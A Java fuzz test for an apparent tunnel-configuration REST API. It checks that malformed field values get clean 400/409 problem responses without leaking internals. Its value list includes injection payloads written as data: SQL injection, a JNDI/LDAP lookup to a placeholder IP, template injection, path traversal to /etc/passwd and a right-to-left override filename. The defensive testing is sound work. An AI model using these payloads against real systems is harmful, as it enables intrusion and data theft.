package io.culvert.config;

import static io.culvert.config.Calls.OPERATOR_POPS;
import static io.culvert.config.Calls.TENANTS;
import static io.culvert.config.Calls.TUNNELS;
import static io.culvert.config.Calls.admin;
import static io.culvert.config.Calls.createTunnel;
import static io.culvert.config.Calls.operator;
import static io.culvert.config.Calls.pop;
import static io.culvert.config.Calls.sharedPop;
import static io.culvert.config.Calls.tenant;
import static io.culvert.config.Calls.tunnel;
import static io.culvert.config.Calls.with;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every field of every body with every kind of value that does not belong there. */
@QuarkusTest
@QuarkusTestResource(Surroundings.class)
class BodyFuzzTest {
  private static final List<String> VALUES =
      List.of(
          "null",
          "true",
          "0",
          "-1",
          "1e999",
          "9223372036854775808",
          "0.1",
          "\"\"",
          "\" \"",
          "\"50\"",
          "\"null\"",
          "\"" + "x".repeat(5_000) + "\"",
          "\"\\u0000\"",
          "\"a\\nb\"",
          // half of a pair, an order from right to left, a combining sign alone, a sign beyond 16
          // bits
          "\"\\ud800\"",
          "\"\\u202egnp.exe\"",
          "\"\\u0301\"",
          "\"\\ud83d\\ude00\"",
          "\"' or 1=1 --\"",
          "\"${jndi:ldap://192.0.2.1/a}\"",
          "\"{{7*7}}\"",
          "\"../../etc/passwd\"",
          "[]",
          "[null]",
          "[[]]",
          "[\"a\",\"a\"]",
          "{}",
          "{\"a\":{\"b\":[1,{}]}}");

  private String tenant = "";

  @BeforeEach
  void makeTenant() {
    tenant = tenant();
  }

  /** A client's mistake is told as one, in words, and never breaks the service. */
  private static void assertCivil(Response answer, String what) {
    assertThat(answer.statusCode()).as(what).isIn(200, 201, 400, 409);
    if (answer.statusCode() >= 400) {
      assertThat(answer.contentType()).as(what).startsWith("application/problem+json");
      assertThat(answer.asString()).as(what).doesNotContain("Exception", "java.", "Hibernate");
      assertThat(answer.jsonPath().getList("violations.message", String.class))
          .as(what)
          .isNotEmpty()
          .allSatisfy(message -> assertThat(message).isNotBlank());
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "site",
        "srcidentity",
        "srcipidentity",
        "psk",
        "encryption",
        "pops",
        "bandwidth",
        "notes",
        "vendor",
        "sourcetype",
        "template",
        "enable",
        "enabled",
        "options",
        "nobodyknowsthis"
      })
  void tunnelIsMadeAndChangedOrTheMistakeIsTold(String field) {
    long id = createTunnel(tenant, tunnel(sharedPop()));
    for (String value : VALUES) {
      String what = field + " = " + value;
      assertCivil(admin(tenant).body(with(tunnel(sharedPop()), field, value)).post(TUNNELS), what);
      assertCivil(
          admin(tenant).body("{\"" + field + "\":" + value + "}").patch(TUNNELS + "/" + id), what);
    }
    admin(tenant).get(TUNNELS + "/" + id).then().statusCode(200);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "region",
        "location",
        "latitude",
        "longitude",
        "gateways",
        "probe",
        "acceptingTunnels",
        "bandwidths",
        "releaseDeploymentDay",
        "publicKey",
        "name"
      })
  void popIsChangedOrTheMistakeIsTold(String field) {
    String pop = pop();
    for (String value : VALUES) {
      assertCivil(
          operator().body("{\"" + field + "\":" + value + "}").patch(OPERATOR_POPS + "/" + pop),
          field + " = " + value);
    }
    operator().get(OPERATOR_POPS + "/" + pop).then().statusCode(200);
  }

  @ParameterizedTest
  @ValueSource(strings = {"name", "licences", "licenceGrace"})
  void tenantIsChangedOrTheMistakeIsTold(String field) {
    for (String value : VALUES) {
      assertCivil(
          operator().body("{\"" + field + "\":" + value + "}").patch(TENANTS + "/" + tenant),
          field + " = " + value);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"psk", "grace"})
  void keyIsRotatedOrTheMistakeIsTold(String field) {
    long id = createTunnel(tenant, tunnel(sharedPop()));
    for (String value : VALUES) {
      String body = "{\"psk\":\"another long key " + Calls.next() + "\",\"grace\":\"PT1H\"}";
      assertCivil(
          admin(tenant).body(with(body, field, value)).post(TUNNELS + "/" + id + "/psk/rotate"),
          field + " = " + value);
    }
  }

  @Test
  void nameIsKeptInItsComposedFormSoThatOneNameIsNotTwo() {
    String number = " " + Calls.next();
    String composed = "Caf\u00e9" + number;
    long id =
        createTunnel(tenant, with(tunnel(sharedPop()), "site", "\"Cafe\\u0301" + number + "\""));
    assertThat(
            admin(tenant).get(TUNNELS + "/" + id).then().extract().<String>path("result[0].site"))
        .isEqualTo(composed);
    admin(tenant)
        .body(with(tunnel(sharedPop()), "site", "\"" + composed + "\""))
        .post(TUNNELS)
        .then()
        .statusCode(409);
  }
}
